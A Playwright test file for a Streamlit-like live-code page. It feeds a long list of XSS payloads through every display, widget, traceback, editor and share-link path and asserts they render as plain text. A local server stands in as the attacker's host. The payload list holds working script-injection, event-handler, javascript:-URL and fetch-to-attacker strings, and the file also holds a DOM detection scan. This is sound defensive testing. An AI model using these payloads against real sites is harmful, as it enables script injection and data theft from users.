"""Hostile text through every text path of a live block does nothing but show itself.

Each payload goes through display commands, widget labels, help, options and values,
heading anchors, alert titles, button shortcuts,
exception messages and tracebacks, the first tree embedded at build time, code typed into
the editor, and share links (the block's code, and the block name). Nothing may open a
dialog, add an element or a handler attribute, or make a request anywhere but the page's
own assets; a second server stands in for the attacker's and must receive nothing. Every
payload must be shown to the reader as the text it is. One page per kind of host (with
and without COOP/COEP), one Pyodide load each.
"""
from __future__ import annotations

import base64
import html
import http.server
import json
import re
import threading
import zlib
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import expect

from streamlet.run_report import short_repr

from .code_editor import CM, editor_text, replace_code
from .livepage import live

pytestmark = pytest.mark.browser

# {A} is the attacker's origin (the second server).
TEMPLATES = [
    "<script>alert(1)</script>",
    '<script src="{A}/script.js"></script>',
    '<script type="module">import "{A}/module.js"</script>',
    "<img src=x onerror=alert(2)>",
    '<img src="{A}/img.png">',
    '<img srcset="{A}/srcset.png 1x">',
    "<IMG SRC=JaVaScRiPt:alert(3)>",
    "<img\tsrc=x\tonerror=alert(4)>",
    "<img src=x onerror=fetch('{A}/fetch')>",
    "<svg onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>",
    '<svg><a xlink:href="javascript:alert(7)"><text>x</text></a></svg>',
    '<svg><image href="{A}/svg-image.png"/></svg>',
    "<svg><animate onbegin=alert(8) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(9)>",
    '<math href="javascript:alert(10)">m</math>',
    '<iframe src="javascript:alert(11)"></iframe>',
    '<iframe srcdoc="<script>alert(12)</script>"></iframe>',
    '<iframe src="{A}/frame"></iframe>',
    '<object data="javascript:alert(13)">',
    '<object data="{A}/object"></object>',
    '<embed src="{A}/embed">',
    "<body onload=alert(14)>",
    '<a href="javascript:alert(15)">click</a>',
    '<a href="&#106;avascript:alert(16)">entity</a>',
    '<a href="data:text/html,<script>alert(17)</script>">data</a>',
    "[click](javascript:alert(18))",
    "[click](JaVaScRiPt:alert(19))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgyMCk8L3NjcmlwdD4=)",
    "![image]({A}/markdown-image.png)",
    "![x](javascript:alert(21))",
    '<meta http-equiv="refresh" content="0;url={A}/meta-refresh">',
    '<base href="{A}/">',
    '<link rel="stylesheet" href="{A}/style.css">',
    '<link rel=prefetch href="{A}/prefetch">',
    '<style>@import url("{A}/import.css");</style>',
    '<style>body{{background:url("{A}/background.png")}}</style>',
    '<div style="background:url({A}/css-url.png)">css</div>',
    '<form action="{A}/form"><button>go</button></form>',
    '<input type=image src="{A}/input-image.png">',
    "<input autofocus onfocus=alert(22)>",
    "<details open ontoggle=alert(23)>",
    "<video><source onerror=alert(24)></video>",
    '<video poster="{A}/poster.png">',
    "<audio src=x onerror=alert(25)>",
    "<marquee onstart=alert(26)>",
    "<template><img src=x onerror=alert(27)></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(28)>">',
    "<xmp><script>alert(29)</script></xmp>",
    "<isindex action=javascript:alert(30) type=image>",
    "</script><script>alert(31)</script>",
    "</textarea><script>alert(32)</script>",
    "</title><script>alert(33)</script>",
    "--><script>alert(34)</script><!--",
    '<!--<img src="--><img src=x onerror=alert(35)//-->',
    '"><script>alert(36)</script>',
    "'><img src=x onerror=alert(37)>",
    '" onmouseover="alert(38)" x="',
    "&lt;script&gt;alert(39)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(40)&#62;",
    "\\u003cscript\\u003ealert(41)\\u003c/script\\u003e",
    "<scr<script>ipt>alert(42)</scr</script>ipt>",
    "javascript:alert(43)",
    "data:text/html,<script>alert(44)</script>",
    "{{{{constructor.constructor('alert(45)')()}}}}",
    "${{alert(46)}}",
    "<%= alert(47) %> {{{{7*7}}}}",
    '\\"}};alert(48);//',
    "\u202egnp.exe<script>alert(49)</script>",
    "java\u200bscript:alert(50)",
    "\u2028\u2029<script>alert(51)</script>",
    "你好<script>alert(52)</script>こんにちは",
    "`<img src=x onerror=alert(53)>`",
    "**<img src=x onerror=alert(54)>**",
    # GitHub's and Streamlit's syntax: autolinks, tables, colored text, images from data: URLs.
    "<javascript:alert(55)>",
    "| cell |\n| --- |\n| [x](javascript:alert(56)) |",
    ":red[[click](javascript:alert(57))] :blue-background[<img src=x onerror=alert(58)>]",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNTkpPg==)",
    "![pixel]({A}/markdown-image-2.png) ~~<svg onload=alert(60)>~~ www.example.invalid/x",
    ':color[c]{{foreground="red;background:url({A}/color.png)" background="url({A}/background-color.png)"}}',
    "- [x] <img src=x onerror=alert(61)>\n- [ ] [t](vbscript:alert(62))",
]

# What the markdown renderer may legitimately turn into markup or drop: compare without it.
MARKDOWN_NOISE = re.compile(r"[\s*_`\\~|\[\]]")


# A markdown link or image to an http(s) address is a link (the page may make it one; it is fetched
# only if clicked): its text stays.
HTTP_LINK = re.compile(r"!?\[([^\]]*)\]\(https?://[^)\s]*\)")
# A table's delimiter row, a task list's boxes and Streamlit's directives (`:red[...]{...}`) are markup.
TABLE_RULE = re.compile(r"^[ \t]*\|?(?:[ \t]*:?-+:?[ \t]*\|?)+[ \t]*$", re.M)
TASK = re.compile(r"^([ \t]*)[-*+] \[[ xX]\]", re.M)
DIRECTIVE = re.compile(r":(?:red|orange|yellow|green|blue|violet|gr[ae]y|primary|rainbow|color|small|shimmer)"
                       r"(?:-background|-badge)?(?=\[)")
ATTRIBUTES = re.compile(r"\]\{[^{}]*\}")


def norm(text: str) -> str:
    # Markdown decodes character references (&lt; is <), as CommonMark does: compare both decoded.
    text = html.unescape(text)
    text = ATTRIBUTES.sub("]", DIRECTIVE.sub("", TASK.sub(r"\1", TABLE_RULE.sub("", text))))
    return MARKDOWN_NOISE.sub("", HTTP_LINK.sub(r"\1", text))


def share_hash(session: str, code: str) -> str:
    raw = code.encode("utf-8")
    body = base64.urlsafe_b64encode(raw).decode("ascii").rstrip("=")
    return f"#live-{quote(session, safe='')}={body}.{zlib.crc32(raw):08x}"


class Recorder(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        self.server.seen.append(self.path)  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Cross-Origin-Resource-Policy", "cross-origin")
        self.end_headers()
        self.wfile.write(b"alert('attacker')")

    do_POST = do_GET

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def attacker() -> Iterator[Any]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    server.seen = []  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    server.origin = f"http://127.0.0.1:{server.server_address[1]}"  # type: ignore[attr-defined]
    yield server
    server.shutdown()


def payloads(origin: str) -> list[str]:
    found = [t.format(A=origin) for t in TEMPLATES]
    assert len(set(found)) == len(found) >= 50
    return found


def display_code(p: list[str]) -> str:
    return (
        "import streamlit as st\n"
        f"P = {p!r}\n"
        "for i, p in enumerate(P):\n"
        "    st.markdown(p)\n"
        "    st.markdown(p, unsafe_allow_html=True)\n"
        "    st.write(p)\n"
        "    st.title(p, help=p)\n"
        "    st.header(p, anchor=p, divider=True, help=p)\n"
        "    st.subheader(p)\n"
        "    st.caption(p)\n"
        "    st.code(p, language=p)\n"
        "    st.code(p, line_numbers=True, wrap_lines=True)\n"
        "    st.json({'k': p, p: [p]})\n"
        "    st.text(p)\n"
        "    st.error(p, title=p)\n"
        "    st.warning(p)\n"
        "    st.info(p)\n"
        "    st.success(p)\n"
        "    st.exception(ValueError(p))\n"
    )


def widgets_code(p: list[str]) -> str:
    return (
        "import streamlit as st\n"
        f"P = {p!r}\n"
        "if 'clicks' not in st.session_state:\n"
        "    st.session_state.clicks = 0\n"
        "def clicked(*args, **kwargs):\n"
        "    st.session_state.clicks += 1\n"
        "    for p in P:\n"
        "        st.session_state[p] = p\n"
        "clicked.__qualname__ = ''.join(P)\n"
        "st.button('Click', key='go', on_click=clicked, args=tuple(P), kwargs={f'k{i}': p for i, p in enumerate(P)})\n"
        "st.write('clicks:', st.session_state.clicks)\n"
        "for i, p in enumerate(P):\n"
        "    st.button(p, key=f'b{i}', help=p, shortcut=p)\n"
        "    st.checkbox(p, key=f'c{i}', help=p)\n"
        "    st.toggle(p, key=f'g{i}')\n"
        "    st.text_input(p, value=p, key=f't{i}', placeholder=p, help=p, autocomplete=p)\n"
        "    st.text_area(p, value=p, key=f'a{i}')\n"
        "    st.number_input(p, key=f'n{i}')\n"
        "    st.slider(p, key=f's{i}')\n"
        "    st.selectbox(p, [p, 'other'], key=f'x{i}')\n"
        "    st.radio(p, [p, 'other'], key=f'r{i}', captions=[p, p])\n"
        "    st.multiselect(p, [p, 'other'], default=[p], key=f'm{i}')\n"
        "    st.select_slider(p, options=[p, 'other'], key=f'l{i}')\n"
        "    with st.expander(p):\n"
        "        st.write(p)\n"
        "with st.form('f'):\n"
        "    for i, p in enumerate(P):\n"
        "        st.text_input(p, key=f'f{i}')\n"
        "    st.form_submit_button(P[0])\n"
    )


def raising_code(p: list[str]) -> str:
    # The traceback shows the raising line, payloads and all.
    return (
        "import streamlit as st\n"
        f"P = {p!r}\n"
        "st.write('before')\n"
        f"raise ValueError('\\n'.join(P))  # {' '.join(x for x in p if chr(10) not in x and chr(0x2028) not in x)}\n"
    )


def typed_code(p: list[str]) -> str:
    comments = "".join(f"# {x}\n" for x in p if "\u2028" not in x and "\n" not in x)
    return f"import streamlit as st\n{comments}P = {p!r}\nfor p in P:\n    st.text(p)\n    st.markdown(p)\n"


def shared_code(p: list[str]) -> str:
    return f"import streamlit as st\nP = {p!r}\nfor p in reversed(P):\n    st.text(p)\n    st.caption(p)\n"


SCAN = """
() => {
  const bad = [];
  const FORBIDDEN = "script,iframe,frame,frameset,img,image,svg,math,object,embed,applet,style,link,meta,base,form,"
    + "video,audio,source,picture,template,noscript,xmp,marquee,isindex,portal,input[type=image]";
  const URL_ATTRS = ["href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset", "ping"];
  const describe = (el) => el.outerHTML.slice(0, 160);
  for (const el of document.body.querySelectorAll(FORBIDDEN)) {
    const ownData = el.matches('script.st-live-data[type="application/json"]') && el.parentElement?.matches(".st-live");
    // CodeMirror's own spacer beside the part of a long line it does not draw: an <img> with no source.
    const spacer = el.matches("img.cm-widgetBuffer") && el.closest(".cm-content") !== null
      && [...el.attributes].every((attr) => attr.name === "class" || attr.name === "aria-hidden");
    if (!ownData && !spacer) bad.push("element: " + describe(el));
  }
  for (const el of document.body.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const value = attr.value.replace(/[\\s\\u0000-\\u001f]/g, "").toLowerCase();
      if (name.startsWith("on")) bad.push("handler: " + describe(el));
      if (name === "srcdoc") bad.push("srcdoc: " + describe(el));
      if (URL_ATTRS.includes(name) && /^(javascript:|vbscript:|data:text\\/html)/.test(value)) bad.push("url: " + describe(el));
      if (name === "style" && /url\\(|@import|expression\\(/i.test(attr.value)) bad.push("style: " + describe(el));
    }
  }
  return bad;
}
"""

TEXTS = """
(id) => {
  const block = document.querySelector(`.st-live[data-id="${id}"]`);
  const all = (selector) => [...block.querySelectorAll(selector)];
  const texts = (selector) => all(selector).map((el) => el.textContent);
  return {
    code: block.querySelector(".st-live-code")?.textContent ?? "",
    text: texts(".st-output .st-text"),
    codeBlocks: texts(".st-output pre.st-code"),
    json: texts(".st-output pre.st-json"),
    markdown: texts(".st-output .st-markdown"),
    caption: texts(".st-output .st-caption"),
    headings: texts(".st-output .st-title, .st-output .st-header, .st-output .st-subheader"),
    alerts: texts(".st-output .st-alert-body"),
    exceptions: texts(".st-output .st-exception-message"),
    traceback: texts(".st-output .st-traceback pre"),
    labels: texts(".st-output .st-label"),
    summaries: texts(".st-output .st-expander > summary"),
    buttons: texts(".st-output button"),
    options: texts(".st-output option"),
    helps: all(".st-output .st-help-icon").map((el) => el.getAttribute("title")),
    anchors: all(".st-output a.st-anchor").map((el) => el.getAttribute("href").slice(1)),
    alertTitles: texts(".st-output .st-alert-title"),
    shortcuts: all(".st-output button[aria-keyshortcuts]").map((el) => el.getAttribute("aria-keyshortcuts")),
    values: all(".st-output input[type=text], .st-output input:not([type]), .st-output textarea").map((el) => el.value),
    placeholders: all(".st-output input[placeholder]").map((el) => el.getAttribute("placeholder")),
    whole: block.querySelector(".st-output").textContent,
  };
}
"""


TIMELINE = """
(panel) => ({
  keys: [...panel.querySelectorAll("table.st-timeline-state tbody th code")].map((el) => el.textContent),
  values: [...panel.querySelectorAll("table.st-timeline-state tbody td code")].map((el) => el.textContent),
  diff: [...panel.querySelectorAll(".st-timeline-diff code")].map((el) => el.textContent),
  steps: [...panel.querySelectorAll(".st-timeline-steps code")].map((el) => el.textContent),
})
"""


def assert_shown(found: list[str], p: list[str], where: str, *, exact: bool = True) -> None:
    """Each payload is among ``found`` as the same text (or, after markdown, the same characters)."""
    if exact:
        # Streamlit strips what it shows (st.text, labels): leading U+2028 goes, as it would there.
        stripped = {f.strip() for f in found}
        missing = [x for x in p if x.strip() not in stripped]
    else:
        joined = norm("".join(found))
        missing = [x for x in p if norm(x) not in joined]
    assert not missing, f"{where}: not shown literally: {missing[:5]} (of {len(missing)})"


def wait_idle(page: Any) -> None:
    """Every block has had its answer from Python (no request running or queued)."""
    page.wait_for_function(
        "() => [...document.querySelectorAll('.st-live')].every((b) => !b.classList.contains('st-running'))"
        " && !document.querySelector('.st-live-status.st-busy')",
        timeout=120_000,
    )


@pytest.mark.parametrize("isolated", [True, False], ids=["coop-coep", "plain-host"])
def test_payloads_stay_text_on_every_path(browser: Any, serve_page: Any, attacker: Any, isolated: bool,
                                          report: Any) -> None:
    p = payloads(attacker.origin)
    before = len(attacker.seen)
    blocks = [
        live(display_code(p), "display"),
        live(widgets_code(p), "widgets"),
        live(raising_code(p), "raising"),
        live("import streamlit as st\nst.write('editor ready')\n", "editor"),
    ]
    url = serve_page(blocks, isolated=isolated)
    origin = url.rstrip("/")

    context = browser.new_context()
    page = context.new_page()
    dialogs: list[str] = []
    requests: list[str] = []
    problems: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(f"{d.type}: {d.message}"), d.dismiss()))
    context.on("request", lambda r: requests.append(r.url))
    page.on("console", lambda m: problems.append(f"{m.type}: {m.text}") if m.type in ("error", "warning") else None)
    page.on("pageerror", lambda e: problems.append(f"pageerror: {e}"))

    # 1. A share link for the editor block, on the first load: its code is shown, not run.
    code = shared_code(p)
    page.goto(url + share_hash("editor", code))
    editor = page.locator('.st-live[data-id="editor"]')
    expect(editor.locator(CM)).to_be_visible(timeout=30_000)
    assert editor_text(editor) == code
    expect(editor.locator(".st-live-shared")).to_be_visible()

    # 2. The embedded first trees, painted before Python is loaded.
    texts = page.evaluate(TEXTS, "display")
    assert_shown(texts["text"], p, "embedded st.text")
    assert page.evaluate(SCAN) == []

    # 3. Run the shared code.
    wait_idle(page)
    assert page.evaluate(TEXTS, "editor")["text"] == [], "the shared code ran before Run was pressed"
    editor.locator(".st-tool-run").click()
    expect(editor.locator(".st-output .st-text").first).to_have_text(p[-1], timeout=120_000)
    shown = page.evaluate(TEXTS, "editor")
    assert [t.strip() for t in shown["text"]] == [x.strip() for x in reversed(p)]
    assert_shown(shown["caption"], p, "shared code's st.caption", exact=False)

    # 4. Code typed into the editor, then Run.
    typed = typed_code(p)
    replace_code(editor, typed)
    editor.locator(".st-tool-run").click()
    expect(editor.locator(".st-output .st-text").first).to_have_text(p[0], timeout=60_000)
    shown = page.evaluate(TEXTS, "editor")
    assert [t.strip() for t in shown["text"]] == [x.strip() for x in p]
    assert_shown(shown["markdown"], p, "typed code's st.markdown", exact=False)
    assert editor_text(editor) == typed
    editor.locator(".st-tool-edit").click()  # close the editor: the edited code is shown as text
    expect(editor.locator(".st-live-plain")).to_be_visible()
    assert editor.locator(".st-live-plain").text_content() == typed

    # 5. Every display path, as Python drew it live.
    wait_idle(page)
    texts = page.evaluate(TEXTS, "display")
    assert texts["code"] == blocks[0].code
    assert [t.strip() for t in texts["text"]] == [x.strip() for x in p]
    assert_shown(texts["codeBlocks"], p, "st.code")
    assert [json.loads(t) for t in texts["json"]] == [{"k": x, x: [x]} for x in p]
    assert_shown(texts["exceptions"], p, "st.exception")
    for key in ("markdown", "caption", "headings", "alerts"):
        assert_shown(texts[key], p, f"display {key}", exact=False)
    assert_shown(texts["helps"], p, "st.title's and st.header's help")
    assert texts["anchors"] == p, "st.header's anchors"
    assert_shown(texts["alertTitles"], p, "st.error's title", exact=False)

    # 6. Widgets: labels, help, options, values, placeholders; then an event rerenders them.
    # The block's timeline is open: the callback's name and arguments, session state's keys and values.
    widgets = page.locator('.st-live[data-id="widgets"]')
    widgets.locator("details.st-timeline > summary").click()
    widgets.get_by_role("button", name="Click", exact=True).click()
    expect(widgets.locator(".st-output")).to_contain_text("clicks: 1", timeout=60_000)
    # Two entries: the block's first run and the click (newest first: the click's callback leads).
    expect(widgets.locator(".st-timeline-entry")).to_have_count(2, timeout=10_000)
    shown = widgets.locator("details.st-timeline").evaluate(TIMELINE)
    assert_shown(shown["keys"], p, "session state keys in the timeline")
    assert_shown(shown["values"], [short_repr(x) for x in p], "session state values in the timeline")
    assert_shown(shown["diff"], [short_repr(x) for x in p], "session state changes in the timeline")
    call = shown["steps"][0]
    assert "".join(p) + "(" in call, "the callback's name is not shown literally"
    missing = [x for i, x in enumerate(p) if short_repr(x) not in call or f"k{i}={short_repr(x)}" not in call]
    assert not missing, f"callback arguments: not shown literally: {missing[:5]}"
    texts = page.evaluate(TEXTS, "widgets")
    for key in ("labels", "summaries", "buttons"):
        assert_shown(texts[key], p, f"widget {key}", exact=False)
    for key in ("options", "helps", "values", "placeholders", "shortcuts"):
        assert_shown(texts[key], p, f"widget {key}")
    assert_shown([texts["whole"]], p, "radio captions and expander bodies", exact=False)

    # 7. An uncaught exception: its message and the traceback's source line.
    texts = page.evaluate(TEXTS, "raising")
    assert texts["exceptions"] == ["\n".join(p)]
    trace = "".join(texts["traceback"])
    # The raising line's comment holds the payloads that fit on one line.
    missing = [x for x in p if "\u2028" not in x and "\n" not in x and x not in trace]
    assert not missing, f"traceback: not shown literally: {missing[:5]}"

    # 8. Share links that arrive later (the hash changes), naming no block or a damaged one.
    for name in p[:12]:
        page.evaluate("(h) => { location.hash = h; }", share_hash(name, "import streamlit as st\n"))
        banner = page.locator(".st-live-link-banner")
        expect(banner).to_be_visible()
        assert name in banner.text_content()
    page.evaluate("(h) => { location.hash = h; }", share_hash("editor", code)[:-3])
    expect(editor.locator(".st-live-link-damaged")).to_be_visible()

    # Nothing ran, nothing was added, nothing left the page's own assets.
    page.wait_for_timeout(500)
    assert page.evaluate(SCAN) == []
    assert dialogs == []
    own = (origin + "/", origin + "/assets/streamlet/", origin + "/assets/pyodide/")
    strays = [r for r in requests if not (r == own[0] or r.startswith(own[1:]))]
    assert strays == [], f"requests beyond the page's own assets: {strays}"
    assert attacker.seen[before:] == [], f"the attacker's server was reached: {attacker.seen[before:]}"
    assert problems == [], f"console problems: {problems}"
    report(f"xss [{'isolated' if isolated else 'plain'}]: {len(p)} payloads through every text path, "
           f"{len(requests)} requests, all to the page's own assets")
    context.close()
